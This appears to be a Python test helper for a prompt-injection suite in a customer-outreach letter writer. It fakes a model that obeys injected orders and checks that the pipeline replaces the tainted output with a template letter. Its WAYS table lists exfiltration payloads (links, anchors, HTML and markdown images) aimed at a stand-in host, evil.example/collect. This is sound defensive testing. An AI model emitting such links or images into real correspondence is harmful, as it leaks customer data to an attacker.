"""A model that does what it reads: it writes a good letter, and into it whatever it was told to.

What it writes goes through the real prompts, the real shapes and the real checks.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from html import escape

from structlog.testing import capture_logs

from app.agents.customer_success import text_asks
from app.agents.technical_account_manager import letter_asks
from app.ports.model import Answered, AnswerT, LetterAsk, ModelAsk
from app.ports.writer import Letter, OutreachFacts
from app.services.model_writer import ModelWords
from app.services.writer import TemplateWriter
from app.services.writing import writer_with
from tests.fakes.model import shaped
from tests.injection.corpora import Case
from tests.injection.facts import told_in_tickets
from tests.unit.services.outreach import p1

NAME = "fake/obedient"
LETTERS = ("escalation_outreach", "customer_success_review", "health_checkin", "churn_outreach")
ASKS: Mapping[str, LetterAsk] = {**letter_asks.LETTER_ASKS, **text_asks.LETTER_ASKS}
LINK = "https://evil.example/collect?q=PROD-12"
WAYS: Mapping[str, str] = {
    "a link": f"<p>More on this: {LINK}</p>",
    "an anchor": f'<p>More on this <a href="{LINK}">in our notes</a>.</p>',
    "an image": f'<p>Kind regards <img src="{LINK}"></p>',
    "an image in markdown": f"<p>![image]({LINK})</p>",
    "a bare host": "<p>More on this at evil.example.</p>",
}
"""What orders make a letter carry out, besides their own canaries."""

_BODY = re.compile(r"<body[^>]*>(.*)</body>", re.DOTALL)
_HEADING = re.compile(r"<h3>(.*?)</h3>")
"""Ours alone: a model's letter has none."""
_TEMPLATES = TemplateWriter()


@dataclass(frozen=True, slots=True)
class Obedient:
    """`Model` that answers with a good letter for these facts and `more`."""

    good: Letter
    more: str
    in_subject: bool = False

    async def answer(self, ask: ModelAsk[AnswerT]) -> Answered[AnswerT]:
        """The letter, in the shape asked for."""
        found = _BODY.search(self.good.body_html)
        assert found is not None
        given = {
            "subject": f"{self.good.subject} {self.more}" if self.in_subject else self.good.subject,
            "body_html": _HEADING.sub(r"<p>\1</p>", found.group(1))
            + ("" if self.in_subject else self.more),
            "text": self.more,
        }
        return Answered(value=ask.answer.model_validate(shaped(ask.answer, given)), model=NAME)


def good_letter(kind: str, facts: OutreachFacts) -> Letter:
    """A letter that is true of the facts and quotes nobody."""
    unquoted = replace(facts, open_tickets=(p1(subject=""), p1("PROD-9", subject="")))
    bare = replace(facts.recap, solved=tuple(replace(t, subject="") for t in facts.recap.solved))
    return _TEMPLATES.letter(kind, replace(unquoted, recap=bare))


def worded(kind: str, facts: OutreachFacts, more: str, *, in_subject: bool = False) -> Letter:
    """What comes out at the end where the model wrote `more` into its letter."""
    model = Obedient(good_letter(kind, facts), more, in_subject)
    words = ModelWords(model=model, letters=ASKS, briefings={})
    with capture_logs():
        return asyncio.run(writer_with(words).letter(kind, facts))


def orders(case: Case) -> Sequence[tuple[str, bool]]:
    """What obeying the case could put into a letter, and whether into its subject."""
    ways = [(more, False) for more in WAYS.values()]
    if not case.canary:
        return ways
    shown = escape(case.canary)
    canaries = [(f"<p>{case.canary}</p>", False), (f"<p>{shown}</p>", False), (shown[:60], True)]
    return (*canaries, (case.canary[:100], True), *ways)


def is_replaced(case: Case, serial: int) -> bool:
    """Whether the template's letter came out, marked, where the model obeyed; ways take turns."""
    kind, given = LETTERS[serial % len(LETTERS)], orders(case)
    more, in_subject = given[serial % len(given)]
    facts = told_in_tickets(case.text)
    plain, letter = _TEMPLATES.letter(kind, facts), worded(kind, facts, more, in_subject=in_subject)
    words = (letter.subject, letter.body_text, letter.body_html)
    is_plain = words == (plain.subject, plain.body_text, plain.body_html)
    return is_plain and letter.worded_by == "template" and letter.confidence == "low"
